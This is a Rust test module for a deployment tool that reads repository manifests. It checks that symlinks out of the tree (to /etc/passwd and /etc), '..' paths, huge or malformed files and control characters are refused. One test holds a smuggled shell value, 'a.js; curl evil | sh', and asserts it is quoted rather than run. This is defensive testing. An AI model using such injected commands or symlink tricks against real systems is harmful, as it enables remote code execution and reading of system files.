//! Repositories written to make the agent read, serve or run what it should not.
use std::os::unix::fs::symlink;

use super::*;

#[test]
fn manifests_that_are_symlinks_out_of_the_tree_are_never_read() {
    for manifest in [
        "package.json",
        "Procfile",
        "nanoscale.toml",
        "Cargo.toml",
        "index.html",
    ] {
        let dir = repo(&[]);
        symlink("/etc/passwd", dir.path().join(manifest)).expect("symlink");
        assert_eq!(
            error(dir.path()),
            format!(
                "{manifest}: leads outside the repository through a symlink; only files inside it are read"
            )
        );
    }
    // Also through a symlinked directory.
    let outside = repo(&[("index.html", "<h1>not yours</h1>")]);
    let dir = repo(&[]);
    symlink(outside.path(), dir.path().join("public")).expect("symlink");
    assert_eq!(
        error(dir.path()),
        "public/index.html: leads outside the repository through a symlink; only files inside it are read"
    );
}

#[test]
fn symlinks_inside_the_tree_are_followed() {
    let dir = repo(&[("deploy/Procfile", "web: ./serve\n")]);
    symlink("deploy/Procfile", dir.path().join("Procfile")).expect("symlink");
    assert_eq!(plan(dir.path()).run, command("./serve"));
}

#[test]
fn dangling_symlinks_and_odd_file_types_are_clear_errors() {
    let dir = repo(&[]);
    symlink("nowhere", dir.path().join("package.json")).expect("symlink");
    assert_eq!(error(dir.path()), "package.json: is a symlink to nothing");
    let dir = repo(&[("Procfile/web", "")]);
    assert_eq!(error(dir.path()), "Procfile: is not a regular file");
}

#[test]
fn static_roots_stay_inside_the_repository() {
    let cases = [
        ("../..", "contains `..`"),
        ("public/../../x", "contains `..`"),
        ("/var/www", "must be relative to the repository root"),
        ("", "must not be empty"),
    ];
    for (root, expected) in cases {
        let dir = repo(&[("nanoscale.toml", &format!("static = {root:?}\n"))]);
        let message = error(dir.path());
        assert!(
            message.starts_with("nanoscale.toml: `static` ") && message.contains(expected),
            "{root:?} gave {message:?}"
        );
    }
    let dir = repo(&[("nanoscale.toml", "static = \"out/site\"\n")]);
    symlink("/etc", dir.path().join("out")).expect("symlink");
    assert!(error(dir.path()).contains("leads outside it through a symlink"));
    // After the build, the same check again: a build may plant the symlink.
    let dir = repo(&[]);
    symlink("/etc", dir.path().join("dist")).expect("symlink");
    assert!(static_root(dir.path(), Path::new("dist"))
        .expect_err("outside")
        .to_string()
        .contains("leads outside it through a symlink"));
    assert!(static_root(dir.path(), Path::new("../dist")).is_err());
}

#[test]
fn package_json_main_stays_inside_the_repository() {
    for main in ["/etc/passwd", "../../x.js"] {
        let dir = repo(&[("package.json", &format!(r#"{{"main": {main:?}}}"#))]);
        let message = error(dir.path());
        assert!(
            message.starts_with("package.json: `main` must"),
            "{message}"
        );
    }
    // A name that would be shell syntax is quoted, not run.
    let dir = repo(&[("package.json", r#"{"main": "a.js; curl evil | sh"}"#)]);
    assert_eq!(plan(dir.path()).run, command("node 'a.js; curl evil | sh'"));
    let dir = repo(&[("package.json", r#"{"main": "it's.js"}"#)]);
    assert_eq!(plan(dir.path()).run, command(r"node 'it'\''s.js'"));
}

#[test]
fn huge_files_are_refused_without_reading_them_whole() {
    let huge = "x".repeat(MAX_FILE_BYTES as usize + 1);
    for manifest in ["package.json", "Procfile", "nanoscale.toml", "Cargo.toml"] {
        let dir = repo(&[(manifest, &huge)]);
        assert_eq!(
            error(dir.path()),
            format!("{manifest}: is larger than 1024 KiB")
        );
    }
    let exactly = format!("web: ./app\n{}", "#".repeat(MAX_FILE_BYTES as usize - 11));
    let dir = repo(&[("Procfile", &exactly)]);
    assert_eq!(plan(dir.path()).run, command("./app"));
}

#[test]
fn malformed_files_are_errors_not_panics() {
    let cases: [(&str, &[u8], &str); 6] = [
        (
            "package.json",
            b"{nope",
            "package.json: is not valid JSON for a package.json: ",
        ),
        (
            "package.json",
            b"[1, 2]",
            "package.json: is not valid JSON for a package.json: ",
        ),
        (
            "package.json",
            br#"{"scripts": {"start": 42}}"#,
            "package.json: is not valid JSON for a package.json: invalid type",
        ),
        (
            "package.json",
            b"\xff\xfe{}",
            "package.json: is not UTF-8 text",
        ),
        (
            "nanoscale.toml",
            b"run = 'unterminated",
            "nanoscale.toml: is not valid TOML: line 1: ",
        ),
        (
            "Procfile",
            b"web: a\x1b[2Jb\n",
            "Procfile: the `web:` line (line 1) contains a control character",
        ),
    ];
    for (file, bytes, expected) in cases {
        let dir = repo(&[]);
        std::fs::write(dir.path().join(file), bytes).expect("write");
        let message = error(dir.path());
        assert!(
            message.starts_with(expected),
            "{file} {bytes:?} gave {message:?}"
        );
    }
}
